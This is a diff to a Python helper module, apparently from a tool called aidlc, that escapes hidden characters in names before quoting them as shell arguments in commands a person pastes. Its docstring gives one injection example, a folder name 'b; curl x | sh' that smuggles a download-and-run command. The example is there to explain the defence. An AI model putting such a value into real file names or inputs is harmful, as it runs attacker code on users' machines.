@@ -7,8 +7,9 @@
   them escaped (`\\u202e`) on a terminal or in a report.
 * An id becomes a file or folder name (a run's lock, a review's folder): it must be one plain path
   segment, never `..`, a separator, an absolute path or a NUL.
-* A name in a command aidlc prints for a person to paste is one shell argument: quoted when it holds anything a
-  shell reads (a bolt folder named `b; curl x | sh` in a pull request must not print a second command).
+* A name in a command aidlc prints for a person to paste is one shell argument on one line: quoted when it holds
+  anything a shell reads (a bolt folder named `b; curl x | sh` in a pull request must not print a second command),
+  its hiding characters escaped.
 """
 
 from __future__ import annotations
@@ -113,5 +114,6 @@ def path_segment(value: str, what: str, next_steps: list[str] | None = None) -> 
 
 def arg(name: str) -> str:
     """`name` as one shell argument in a printed command: as it is when plain (`001-login`, `intent:shop`), quoted
-    when a shell would read it otherwise."""
-    return shlex.quote(name)
+    when a shell would read it otherwise. A hiding character is shown escaped first (AIDLC-ID-004 reports it): a
+    line break would split the step over two lines, and the second, pasted alone, is a command of the name's."""
+    return shlex.quote(shown(name))
